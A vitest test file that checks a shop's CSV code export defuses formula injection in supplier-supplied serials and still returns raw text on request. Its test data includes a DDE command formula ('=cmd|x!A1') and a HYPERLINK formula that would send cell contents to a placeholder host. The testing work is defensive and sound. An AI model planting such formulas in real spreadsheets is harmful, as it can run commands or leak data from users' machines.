/**
 * Guards: no text from a supplier's file runs as a formula in a partner's or an operator's spreadsheet, and a program
 * that requests raw text gets every character.
 */
import type { Order } from '@psnb2b/contract';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { openShop, type Shop } from '../../testkit/index.ts';

let shop: Shop;
beforeAll(async () => {
  shop = await openShop();
});
afterAll(() => shop[Symbol.asyncDispose]());

test('serials that begin like a formula', async () => {
  const serials = ['=cmd|x!A1', '+1', '-1', '@SUM(1)', '=HYPERLINK("http://x?"&B2)', 'plain'];
  const cell = (text: string) => (text.includes('"') ? `"${text.replaceAll('"', '""')}"` : text);
  const rows = serials.map((serial, row) => `US,50,FORM-000${row}-AAAA,${cell(serial)}`);
  await shop.importFile(['region,denomination,code,serial', ...rows, ''].join('\n'));
  const { key } = await shop.buyer({ balance: '500.00' });
  const body = { region: 'US', denomination: 50, quantity: serials.length };
  const { body: order } = await shop.call<Order>('POST', '/orders', { key, body });
  const read = async (query: string) => {
    const headers = { accept: 'text/csv' };
    const { text } = await shop.call('GET', `/orders/${order.id}/codes${query}`, { key, headers });
    return text.trimEnd().split('\r\n').slice(1);
  };
  const tame = await read('');
  expect(tame).toHaveLength(serials.length);
  for (const line of tame) expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
  expect(tame[0]).toContain(",'=cmd|x!A1,");
  const raw = await read('?raw=true');
  expect(raw[0]).toContain(',=cmd|x!A1,');
  expect(raw.join('\n').replaceAll(/([,"])'(?=[=+\-@])/g, '$1')).toBe(
    tame.join('\n').replaceAll(/([,"])'(?=[=+\-@])/g, '$1'),
  );
  const wrong = await shop.call('GET', `/orders/${order.id}/codes?raw=yes`, { key });
  expect(wrong.status).toBe(422);
});
